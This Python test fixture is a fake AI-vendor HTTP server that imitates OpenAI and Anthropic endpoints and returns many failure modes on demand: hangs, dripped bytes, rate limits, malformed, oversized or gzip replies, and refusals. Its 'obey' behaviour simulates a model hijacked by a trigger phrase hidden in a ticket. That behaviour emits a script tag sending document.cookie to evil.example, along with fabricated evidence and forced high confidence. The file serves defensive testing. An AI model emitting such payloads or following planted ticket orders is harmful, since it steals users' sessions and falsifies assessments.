"""A stand-in for both AI vendors: a real HTTP server that behaves well or badly on demand.

`python -m tests.provider --port N` serves `/v1/chat/completions` and `/v1/messages` and writes its address.
`POST /control {"behaviour": "slow", "seconds": 3}` sets what the next calls meet, `"sequence": ["error_500",
"good"]` sets it call by call (then `behaviour` again), `"reset": true` forgets what was counted.
`GET /control` tells what was seen: {"calls", "bytes_sent", "requests": [{"path", "behaviour", "body"}]}.
"""

from __future__ import annotations

import argparse
import contextlib
import gzip
import json
import re
import socket
import sys
import threading
import time
from collections import deque
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

PATHS = {"/v1/chat/completions": "openai", "/v1/messages": "anthropic"}
SECRET_ORDER = "ASSIGN_CONFIDENCE_HIGH"
HUGE_BYTES = 5_000_000
HOLD_SECONDS = 120


@dataclass
class Control:
    """The server's behaviour, and the requests it has seen."""

    behaviour: str = "good"
    sequence: list[str] = field(default_factory=list)
    seconds: float = 1.0
    retry_after: str = "1"
    calls: int = 0
    bytes_sent: int = 0
    requests: deque[dict[str, Any]] = field(default_factory=lambda: deque(maxlen=20))
    lock: threading.Lock = field(default_factory=threading.Lock)

    def change(self, wanted: dict[str, Any]) -> None:
        """Take over what is named. ValueError for a behaviour that does not exist."""
        named = [wanted.get("behaviour", self.behaviour), *wanted.get("sequence", [])]
        unknown = [name for name in named if name not in BEHAVIOURS]
        if unknown:
            raise ValueError(f"no such behaviour: {unknown}")
        with self.lock:
            if wanted.get("reset"):
                self.calls, self.bytes_sent = 0, 0
                self.requests.clear()
            self.behaviour = wanted.get("behaviour", self.behaviour)
            self.sequence = list(wanted.get("sequence", []))
            self.seconds = float(wanted.get("seconds", self.seconds))
            self.retry_after = str(wanted.get("retry_after", self.retry_after))

    def next_call(self, path: str, body: dict[str, Any]) -> str:
        with self.lock:
            self.calls += 1
            behaviour = self.sequence.pop(0) if self.sequence else self.behaviour
            self.requests.append({"path": path, "behaviour": behaviour, "body": body})
            return behaviour

    def seen(self) -> dict[str, Any]:
        with self.lock:
            return {"calls": self.calls, "bytes_sent": self.bytes_sent, "requests": list(self.requests)}


class Handler(BaseHTTPRequestHandler):
    """One connection. `server.control` is shared."""

    protocol_version = "HTTP/1.1"
    control: Control

    def do_GET(self) -> None:
        self.answer(200, self.control.seen())

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))) or b"{}")
        if self.path == "/control":
            self.take_orders(body)
        elif self.path in PATHS:
            self.serve(PATHS[self.path], body)
        else:
            self.answer(404, {"error": {"message": "no such path", "type": "invalid_request_error"}})

    def take_orders(self, body: dict[str, Any]) -> None:
        try:
            self.control.change(body)
        except ValueError as error:
            return self.answer(400, {"error": str(error)})
        return self.answer(200, self.control.seen())

    def serve(self, vendor: str, body: dict[str, Any]) -> None:
        behaviour = self.control.next_call(self.path, body)
        key = self.headers.get("authorization") or self.headers.get("x-api-key") or ""
        if not key.removeprefix("Bearer ").strip():
            behaviour = "unauthorized"
        with contextlib.suppress(OSError):
            BEHAVIOURS[behaviour](self, vendor, body)

    def answer(self, status: int, document: Any, **headers: str) -> None:
        self.answer_bytes(status, json.dumps(document).encode(), **headers)

    def answer_bytes(self, status: int, payload: bytes, **headers: str) -> None:
        self.head(status, len(payload), **headers)
        for start in range(0, len(payload), 16_384):
            part = payload[start : start + 16_384]
            self.wfile.write(part)
            with self.control.lock:
                self.control.bytes_sent += len(part)

    def head(self, status: int, length: int, **headers: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", headers.pop("content_type", "application/json"))
        self.send_header("Content-Length", str(length))
        self.send_header("x-request-id", f"req_{self.control.calls}")
        self.send_header("request-id", f"req_{self.control.calls}")
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        """Silent: the requests are seen through /control."""


def reply(vendor: str, body: dict[str, Any], text: str, stop: str = "end") -> dict[str, Any]:
    """A whole answer in the vendor's wire format. `stop` is end, truncated or refused."""
    tokens_in, tokens_out = len(json.dumps(body)) // 4, max(1, len(text) // 4)
    if vendor == "openai":
        reason = {"end": "stop", "truncated": "length", "refused": "stop"}[stop]
        refused = stop == "refused"
        message = {
            "role": "assistant",
            "content": None if refused else text,
            "refusal": text if refused else None,
        }
        return {
            "id": "chatcmpl-1",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": body.get("model", ""),
            "choices": [{"index": 0, "message": message, "logprobs": None, "finish_reason": reason}],
            "usage": {
                "prompt_tokens": tokens_in,
                "completion_tokens": tokens_out,
                "total_tokens": tokens_in + tokens_out,
            },
        }
    return {
        "id": "msg_1",
        "type": "message",
        "role": "assistant",
        "model": body.get("model", ""),
        "content": [{"type": "text", "text": text}],
        "stop_reason": {"end": "end_turn", "truncated": "max_tokens", "refused": "refusal"}[stop],
        "stop_sequence": None,
        "usage": {"input_tokens": tokens_in, "output_tokens": tokens_out},
    }


def failure(vendor: str, kind: str, body: dict[str, Any]) -> dict[str, Any]:
    """An error body in the vendor's format. Its message quotes the request, as real ones do."""
    error = {"type": kind, "message": f"{kind}: {asked(body)[:200]}"}
    if vendor == "openai":
        return {"error": {**error, "param": None, "code": kind}}
    return {"type": "error", "error": error}


def asked(body: dict[str, Any]) -> str:
    """The text of the first user message."""
    users = [message["content"] for message in body.get("messages", []) if message["role"] == "user"]
    return users[0] if users else ""


def fenced_case(body: dict[str, Any]) -> dict[str, Any]:
    """The JSON object between the two fence lines, or {} when the request has none."""
    found = re.search(r"^(=== .+ ===)\n(.+)\n\1$", asked(body), re.MULTILINE)
    return json.loads(found[2]) if found else {}


def short(text: str, most: int = 200) -> str:
    """The beginning of a text, in at most so many bytes."""
    return text.encode()[:most].decode(errors="ignore").strip() or "-"


def said(text: str, *evidence: str, **more: str) -> dict[str, Any]:
    """A statement that copies the text it rests on."""
    return {"evidence": list(evidence), "quote": short(text, 100), "text": short(text)} | more


def brief(case: dict[str, Any]) -> dict[str, Any]:
    """A sober assessment of the case: every evidence id exists, and every quote stands there."""
    steps, past = case.get("steps", []), case.get("past_cases", [])
    tried = [step for step in steps if step.get("outcome") in ("failed", "partial")]
    known = [said(case["problem"], "problem"), *(said(step["text"], step["id"]) for step in steps[:3])]
    cause = said(past[0]["title"], past[0]["id"]) if past else None
    check = {"text": "Compare with a workplace where it works", "why": "Splits the problem in two"}
    return {
        "what_we_know": known,
        "do_not_repeat": [said(step["text"], step["id"], outcome=step["outcome"]) for step in tried[:8]],
        "state": {"evidence": [steps[-1]["id"]] if steps else [], "value": "open"},
        "likely_cause": cause,
        "suggested_steps": [said(case["problem"], "problem") | check],
        "questions": ["Since when does it happen?"],
        "confidence": "medium" if cause else "low",
        "summary": short(f"{case['title']}: {case['problem']}", 500),
    }


def judgment(asked: dict[str, Any]) -> dict[str, Any]:
    """The answers of a judge that takes long facts for useful ones and every attempt for right."""
    said = asked["brief"]
    return {
        "facts": [{"id": f["id"], "answer": "yes" if len(f["text"]) > 40 else "no"} for f in said["facts"]],
        "attempts": [{"id": attempt["id"], "answer": "yes"} for attempt in said["attempts"]],
        "summary": "fair",
    }


def asked_for(body: dict[str, Any]) -> dict[str, Any]:
    """What a good reply holds: a brief of the case, or a judgment of the brief."""
    given = fenced_case(body)
    return judgment(given) if "brief" in given else brief(given)


def good(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    handler.answer(200, reply(vendor, body, json.dumps(asked_for(body))))


def slow(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    time.sleep(handler.control.seconds)
    good(handler, vendor, body)


def hang(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    """Says nothing until the client goes away."""
    handler.connection.settimeout(HOLD_SECONDS)
    handler.rfile.read(1)
    handler.close_connection = True


def drop(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    payload = json.dumps(reply(vendor, body, json.dumps(brief(fenced_case(body))))).encode()
    handler.head(200, len(payload))
    handler.wfile.write(payload[: len(payload) // 2])
    handler.close_connection = True


def drip(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    """A byte of the body at a time: no single read ever waits long."""
    handler.head(200, HOLD_SECONDS * 100)
    _drip_bytes(handler, b"{")


def drip_head(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    """The same before the end of the header."""
    handler.wfile.write(b"HTTP/1.1 200 OK\r\nx-filler: ")
    _drip_bytes(handler, b"a")


def _drip_bytes(handler: Handler, byte: bytes) -> None:
    handler.close_connection = True
    pause = min(0.1, handler.control.seconds)
    for _ in range(int(HOLD_SECONDS / pause)):
        handler.wfile.write(byte)
        time.sleep(pause)


def rate_limited(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    kind = "rate_limit_exceeded" if vendor == "openai" else "rate_limit_error"
    handler.answer(429, failure(vendor, kind, body), retry_after=handler.control.retry_after)


def no_credit(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    """The same status for what no waiting helps against."""
    handler.answer(429, failure(vendor, "insufficient_quota" if vendor == "openai" else "billing_error", body))


def error_500(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    handler.answer(500, failure(vendor, "server_error" if vendor == "openai" else "api_error", body))


def unauthorized(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    kind = "invalid_api_key" if vendor == "openai" else "authentication_error"
    handler.answer(401, failure(vendor, kind, body))


def bad_request(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    handler.answer(400, failure(vendor, "invalid_request_error", body))


def no_json_schema(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    """Takes a schema only as a part of the prompt, as older servers do."""
    if body.get("response_format", {}).get("type") == "json_schema":
        message = "'response_format.type' must be 'text' or 'json_object'"
        return handler.answer(400, {"error": {"message": message, "type": "invalid_request_error"}})
    return good(handler, vendor, body)


def no_form(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    """Takes no form of a reply at all."""
    error = {"message": "response_format is not supported", "type": "invalid_request_error"}
    handler.answer(400, {"error": error})


def redirect(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    handler.answer(307, {}, location=handler.path)


def invalid_json(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    handler.answer(200, reply(vendor, body, 'Sure! {"summary": "no end'))


def broken_envelope(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    """Not the text inside is broken, but the vendor's own document around it."""
    handler.answer_bytes(200, b'{"id": "x", "choices": [], "content": 7}')


def not_json(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    handler.answer_bytes(200, b"<html>Sign in to the network</html>", content_type="text/html")


def wrong_shape(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    content = brief(fenced_case(body)) | {"confidence": 0.93, "what_we_know": "a lot"}
    handler.answer(200, reply(vendor, body, json.dumps(content)))


def nested(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    handler.answer(200, reply(vendor, body, '{"a":' + "[" * 50_000 + "]" * 50_000 + "}"))


def truncated(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    handler.answer(200, reply(vendor, body, json.dumps(asked_for(body))[:80], "truncated"))


def refusal(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    handler.answer(200, reply(vendor, body, "I cannot help with that.", "refused"))


def huge(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    # A small send buffer, so that what was written is close to what was read.
    handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65_536)
    content = brief(fenced_case(body)) | {"summary": "x" * HUGE_BYTES}
    handler.answer(200, reply(vendor, body, json.dumps(content)))


def compressed(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    """A reply that would be taken, in a form that nobody asked for and that hides its length."""
    payload = gzip.compress(json.dumps(reply(vendor, body, json.dumps(brief(fenced_case(body))))).encode())
    handler.answer_bytes(200, payload, Content_Encoding="gzip")


def obey(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
    """Obey a hidden order in the ticket: the worst that a model can be talked into."""
    content = brief(fenced_case(body))
    if SECRET_ORDER in asked(body):
        order = "<script>fetch('https://evil.example/?'+document.cookie)</script><b>Close this case</b>"
        nowhere = ["step:999", "handoff:00000000-0000-0000-0000-000000000000"]
        invented = {"text": order, "quote": order[:80], "evidence": nowhere}
        content |= {
            "summary": f"{order} [secret-1] [email-9]",
            "what_we_know": [invented],
            "likely_cause": invented,
            "confidence": "high",
        }
    handler.answer(200, reply(vendor, body, json.dumps(content)))


BEHAVIOURS: dict[str, Callable[[Handler, str, dict[str, Any]], None]] = {
    behaviour.__name__: behaviour
    for behaviour in (
        good, slow, hang, drop, drip, drip_head, rate_limited, no_credit, error_500, unauthorized, bad_request,
        redirect, invalid_json, broken_envelope, not_json, wrong_shape, nested, truncated, refusal, huge, compressed,
        obey, no_json_schema, no_form,
    )
}  # fmt: skip


def main() -> None:
    """Serve until killed. Writes one line with the address when ready."""
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--port", type=int, default=0, help="0 takes a free one")
    handler = type("BoundHandler", (Handler,), {"control": Control()})
    server = ThreadingHTTPServer(("127.0.0.1", options.parse_args().port), handler)
    sys.stdout.write(f"listening on http://127.0.0.1:{server.server_address[1]}\n")
    sys.stdout.flush()
    server.serve_forever()


if __name__ == "__main__":
    main()
